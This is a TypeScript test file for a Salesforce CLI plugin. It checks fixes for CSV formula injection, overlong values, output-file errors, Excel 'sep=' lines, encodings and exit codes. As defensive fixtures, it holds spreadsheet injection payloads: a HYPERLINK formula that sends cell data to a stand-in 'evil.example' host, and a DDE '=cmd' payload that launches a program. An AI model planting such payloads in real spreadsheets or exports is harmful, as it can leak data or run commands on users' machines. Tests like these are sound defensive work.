/*
 * Issue 10, the input and output side: every defect of ours has a test here that failed before
 * its fix (formula cells, long values, output targets, exit codes, sep=, encodings, the small ones).
 */
import { chmodSync, mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { parseScopeCsv, readScopeCsv } from '../../src/scope/scopeFile.js';
import { inScopeUsersCsv } from '../../src/preflight/inScopeUsersCsv.js';
import { writeAccessErrorsCsv, userTables } from '../../src/accessErrors/report.js';
import { checkOutputTarget } from '../../src/shared/outputTarget.js';
import { checkRows } from '../../src/preflight/report.js';
import { TABLE_CELL_MAX } from '../../src/shared/tableCells.js';
import { evaluateScope } from '@code42-companion/rules';
import type { AccessErrorGroup } from '../../src/accessErrors/aggregate.js';
import type { AccessErrorsResult } from '../../src/accessErrors/report.js';
import type { PreflightResult } from '../../src/preflight/result.js';

type Err = { message: string; actions?: string[]; exitCode?: number; name?: string };
const tmp = (): string => mkdtempSync(join(tmpdir(), 'c42-hostile-'));
const errorOf = (fn: () => unknown): Err => {
  try {
    fn();
  } catch (error) {
    return error as Err;
  }
  throw new Error('expected an error');
};
const rejection = async (p: Promise<unknown>): Promise<Err> => {
  try {
    await p;
  } catch (error) {
    return error as Err;
  }
  throw new Error('expected a rejection');
};
const values = (text: string | Buffer, kind: 'users' | 'groups' = 'users'): string[] =>
  parseScopeCsv(text, kind, 'scope.csv').entries.map((e) => e.value);

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR', '\uFF1D1+1'];

function group(overrides: Partial<AccessErrorGroup>): AccessErrorGroup {
  return {
    userId: '005000000000001AAA',
    username: 'a@x.com',
    accessError: 'NO_ACCESS',
    entityType: 'Account',
    requestedAccessLevel: 'READ',
    count: 1,
    firstTime: '2026-01-01T00:00:00.000Z',
    lastTime: '2026-01-01T00:00:00.000Z',
    exampleRecordIds: ['001000000000001'],
    initiatedByOthers: 0,
    ...overrides,
  } as AccessErrorGroup;
}

describe('issue 10: hostile inputs and outputs', () => {
  describe('defect 1: formula cells in --output-file are neutralized (OWASP CSV Injection)', () => {
    it('preflight users CSV: names, usernames, emails and grant names that start like a formula are quoted with a leading quote', () => {
      const text = inScopeUsersCsv(
        HOSTILE.map((h, i) => ({
          id: `005000000000${String(i).padStart(3, '0')}AAA`,
          username: i % 2 ? h : `u${i}@x.com`,
          name: h,
          email: `${h}@x.com`,
          grantedBy: [`permissionSet:${h}`],
        }))
      );
      const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
      rows.forEach((row, i) => {
        expect(row.Name, `row ${i}`).to.equal(`'${HOSTILE[i]}`);
        expect(row.Email).to.equal(`'${HOSTILE[i]}@x.com`);
        expect(row.GrantedBy).to.equal(`permissionSet:${HOSTILE[i]}`); // not at the start of the cell: harmless
        if (i % 2) expect(row.Username).to.equal(`'${HOSTILE[i]}`);
      });
      // Every neutralized cell is quoted in the file itself.
      expect(text).to.include(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
      expect(text).to.include(`"'+1+2"`);
      expect(text).not.to.match(/(^|,)[=+\-@]/m);
    });

    it('a grant name that starts like a formula is neutralized too', () => {
      const text = inScopeUsersCsv([{ id: '005000000000001AAA', username: 'a@x.com', name: 'A', email: 'a@x.com', grantedBy: ['=cmd|" /C calc"!A0'] }]);
      expect((parse(text, { columns: true }) as Array<Record<string, string>>)[0].GrantedBy).to.equal(`'=cmd|" /C calc"!A0`);
    });

    it('access-errors CSV: usernames and field values from the log are neutralized, counts stay numbers', async () => {
      const file = join(tmp(), 'errors.csv');
      await writeAccessErrorsCsv(file, [group({ username: '=1+1', entityType: '@Evil', count: 3 }), group({ accessError: '-X' })]);
      const rows = parse(readFileSync(file, 'utf8'), { columns: true }) as Array<Record<string, string>>;
      expect(rows[0]).to.include({ Username: "'=1+1", EntityType: "'@Evil", Count: '3' });
      expect(rows[1].AccessError).to.equal("'-X");
    });
  });

  describe('defect 4: one long CSV value', () => {
    it('a 2 MB value is refused at once with the file, the row, the limit and exit code 2', () => {
      const started = Date.now();
      const e = errorOf(() => parseScopeCsv(`Username\na@x.com\n${'x'.repeat(2_000_000)}\n`, 'users', 'dir/users.csv'));
      expect(Date.now() - started).to.be.below(2000);
      expect(e.exitCode).to.equal(2);
      expect(e.message).to.match(/^users\.csv, row 3: the value has 2,000,000 characters/);
      expect(e.message).to.include('at most 80');
      expect(e.message.length).to.be.below(400);
      expect((e.actions ?? []).join(' ')).to.include('one user (username, email or Id) per row');
    });

    it('the limits follow Salesforce: 80 characters for a username, email or group developer name; 512 for a federation Id', () => {
      expect(values(`Email\n${'a'.repeat(70)}@x.com\n`)).to.have.length(1);
      expect(errorOf(() => values(`Email\n${'a'.repeat(80)}@x.com\n`)).exitCode).to.equal(2);
      expect(values(`DeveloperName\n${'G'.repeat(80)}\n`, 'groups')).to.have.length(1);
      expect(errorOf(() => values(`Name\n${'G'.repeat(81)}\n`, 'groups')).message).to.include('row 2');
      expect(values(`FederationIdentifier\n${'f'.repeat(300)}\n`)).to.have.length(1);
    });

    it('every table cell is bounded before the table library measures it (preflight and access-errors)', () => {
      const long = 'y'.repeat(500_000);
      const rows = checkRows({ checks: [{ id: 'x', title: long, status: 'warn', message: long, remediation: [] }] } as unknown as PreflightResult);
      expect(rows[0].message.length).to.be.at.most(TABLE_CELL_MAX);
      expect(rows[0].check.length).to.be.at.most(TABLE_CELL_MAX);
      expect(rows[0].message.endsWith('…')).to.equal(true);
      const tables = userTables({
        groups: [group({ entityType: long, username: long })],
        users: [{ id: '005000000000001AAA', username: long, reasons: [] }],
      } as unknown as AccessErrorsResult);
      expect(tables[0].rows[0].object.length).to.be.at.most(TABLE_CELL_MAX);
      expect(tables[0].title.length).to.be.at.most(TABLE_CELL_MAX);
    });
  });

  describe('defect 5: --output-file is checked before any API call', () => {
    it('a missing folder, a folder given as the file, and a file used as a folder: exit 2 with the fix', async () => {
      const dir = tmp();
      writeFileSync(join(dir, 'plain.txt'), 'x');
      const missing = await rejection(checkOutputTarget(join(dir, 'no-such-folder', 'out.csv')));
      expect(missing.exitCode).to.equal(2);
      expect(missing.message).to.match(/the folder .*no-such-folder does not exist/);
      expect((missing.actions ?? []).join(' ')).to.include('mkdir -p');
      const folder = await rejection(checkOutputTarget(dir));
      expect(folder.exitCode).to.equal(2);
      expect(folder.message).to.include('is a folder');
      expect((folder.actions ?? []).join(' ')).to.include('result.csv');
      const underFile = await rejection(checkOutputTarget(join(dir, 'plain.txt', 'out.csv')));
      expect(underFile.exitCode).to.equal(2);
    });

    it('a read-only folder: exit 2 naming EACCES (skipped as root, who may write anywhere)', async function () {
      if (process.getuid?.() === 0) this.skip();
      const dir = tmp();
      chmodSync(dir, 0o500);
      try {
        const e = await rejection(checkOutputTarget(join(dir, 'out.csv')));
        expect(e.exitCode).to.equal(2);
        expect(e.message).to.match(/cannot be written \((EACCES|EPERM)\)/);
      } finally {
        chmodSync(dir, 0o700);
      }
    });

    it('an existing file or a new file in an existing folder passes, and nothing is created', async () => {
      const dir = tmp();
      writeFileSync(join(dir, 'old.csv'), 'x');
      await checkOutputTarget(join(dir, 'old.csv'));
      await checkOutputTarget(join(dir, 'new.csv'));
      expect(() => readFileSync(join(dir, 'new.csv'))).to.throw();
    });
  });

  describe('defect 6: a bad scoping path is bad input (exit 2), not "a check failed" (1)', () => {
    it('a missing file', async () => {
      const e = await rejection(readScopeCsv(join(tmp(), 'missing.csv'), 'users'));
      expect(e.exitCode).to.equal(2);
      expect(e.message).to.include('ENOENT');
    });
    it('a folder given as the file', async () => {
      const dir = join(tmp(), 'scopes');
      mkdirSync(dir);
      const e = await rejection(readScopeCsv(dir, 'groups'));
      expect(e.exitCode).to.equal(2);
      expect(e.message).to.include('is a folder, not a file');
      expect((e.actions ?? []).join(' ')).to.include('scopes/users.csv');
    });
  });

  describe("defect 11: Excel's sep= first line", () => {
    it('a users file starting with sep=, is read under its header', () => {
      const parsed = parseScopeCsv('sep=,\r\nUsername,Name\r\na@x.com,"Ann, A"\r\n', 'users', 'u.csv');
      expect(parsed.entries).to.deep.equal([{ row: 3, value: 'a@x.com' }]);
      expect(parsed.column).to.equal('Username');
    });
    it('a groups file with sep=; neither counts the sep line nor the header as groups', () => {
      expect(values('\uFEFFsep=;\nName;Owner\nSales, EMEA;ann\nSupport;jo\n', 'groups')).to.deep.equal(['Sales, EMEA', 'Support']);
      expect(values('sep=,\nName\nSales\n', 'groups')).to.deep.equal(['Sales']);
      expect(values('sep=,\n', 'groups')).to.deep.equal([]);
    });
    it('the delimiter the line names is honoured even when the header would suggest another', () => {
      expect(values('sep=|\nUsername|Name\na@x.com|Ann; Lee\n')).to.deep.equal(['a@x.com']);
    });
  });

  describe('defect 12: text that is not UTF-8', () => {
    it('Windows-1252 ("jürgen" as byte FC) is refused naming the encoding, the row, and how to save as CSV UTF-8', () => {
      const cp1252 = Buffer.concat([Buffer.from('Username\nann@x.com\nj'), Buffer.from([0xfc]), Buffer.from('rgen@x.com\n')]);
      const e = errorOf(() => parseScopeCsv(cp1252, 'users', 'users.csv'));
      expect(e.exitCode).to.equal(2);
      expect(e.message).to.include('users.csv, row 3, is not UTF-8');
      expect(e.message).to.include('Windows-1252');
      expect(e.message).to.include('"jürgen@x.com"');
      expect((e.actions ?? []).join(' ')).to.include('CSV UTF-8 (Comma delimited)');
    });
    it('UTF-16 with a BOM (little and big endian, Excel\'s "Unicode Text") is decoded', () => {
      const text = 'Username\tName\r\njürgen@x.com\tJürgen\r\n';
      const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
      const be = Buffer.from(le);
      be.swap16();
      expect(values(le)).to.deep.equal(['jürgen@x.com']);
      expect(values(be)).to.deep.equal(['jürgen@x.com']);
    });
    it('UTF-8 with accents and a BOM still reads as before', () => {
      expect(values(Buffer.from('\uFEFFEmail\njürgen@x.com\n', 'utf8'))).to.deep.equal(['jürgen@x.com']);
    });
  });

  describe('defect 13: the smaller ones', () => {
    it('an empty users file is told to add users, not to "correct the rows listed", and is not sent to Public Groups', () => {
      const check = evaluateScope({ scope: { mode: 'users', entries: 0, unmatched: [] } }) as { status: string; remediation: string[]; setupLink?: unknown; message: string };
      expect(check.status).to.equal('fail');
      expect(check.remediation.join(' ')).not.to.include('rows listed');
      expect(check.remediation.join(' ')).to.include('one user per row');
      expect(check.setupLink).to.equal(undefined);
      const groups = evaluateScope({ scope: { mode: 'groups', entries: 0, unmatched: [] } }) as { setupLink?: { label: string } };
      expect(groups.setupLink?.label).to.equal('Setup > Users > Public Groups');
    });
    it('an over-limit file is told how to get under the limit, not to correct rows that are not listed', () => {
      const check = evaluateScope({ scope: { mode: 'users', entries: 100_000, unmatched: [] } }) as { remediation: string[] };
      expect(check.remediation.join(' ')).not.to.include('rows listed');
      expect(check.remediation.join(' ')).to.include('at most 1,000 rows');
    });
    it('duplicate rows are found (names without case, 15/18-character Ids as the same record)', () => {
      const parsed = parseScopeCsv('Username\na@x.com\nA@X.com\nb@x.com\n005000000000001\n005000000000001AAA\n', 'users', 'u.csv');
      expect(parsed.entries).to.have.length(5);
      expect(parsed.duplicates).to.deep.equal([
        { row: 3, value: 'A@X.com', firstRow: 2 },
        { row: 6, value: '005000000000001AAA', firstRow: 5 },
      ]);
    });
    it('with both Username and Email columns, the one read and the one not used are named', () => {
      const parsed = parseScopeCsv('Email,Username\na@x.com,ann\n', 'users', 'u.csv');
      expect(parsed.column).to.equal('Username');
      expect(parsed.unusedColumns).to.deep.equal(['Email']);
    });
    it('messages say "one user per row" and "one public group per row", never "one users per row"', () => {
      const zip = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00]);
      expect((errorOf(() => parseScopeCsv(zip, 'users', 'u.xlsx')).actions ?? []).join(' ')).to.include('one user (username, email or Id) per row');
      const bad = errorOf(() => parseScopeCsv('Name\n"Sales\n', 'groups', 'g.csv'));
      expect((bad.actions ?? []).join(' ')).to.include('one public group (Name, DeveloperName or Id) per row');
      expect(JSON.stringify(bad)).not.to.include('one users');
    });
  });

  describe('the README and --help agree on the exit codes the tests assert', () => {
    const here = fileURLToPath(new URL('.', import.meta.url));
    const readme = readFileSync(join(here, '..', '..', '..', 'README.md'), 'utf8');
    for (const command of ['preflight', 'access-errors']) {
      it(`${command}: 0, 1 and 2 (bad flags or files) in both`, () => {
        const help = readFileSync(join(here, '..', '..', 'messages', `code42.${command}.md`), 'utf8');
        const description = help.split('# description')[1].split('\n# ')[0];
        for (const code of ['0', '1', '2']) expect(description, `--help, code ${code}`).to.match(new RegExp(`^- ${code}: `, 'm'));
        expect(description).to.include('- 2: bad flags or files');
        const section = readme.split(`## \`sf code42 ${command}\``)[1].split('\n## ')[0];
        expect(section, 'README').to.match(/\*\*Exit codes\*\* \(the same in `--help`\): `0` .*`1` .*`2` bad flags or files/s);
      });
    }
  });
});
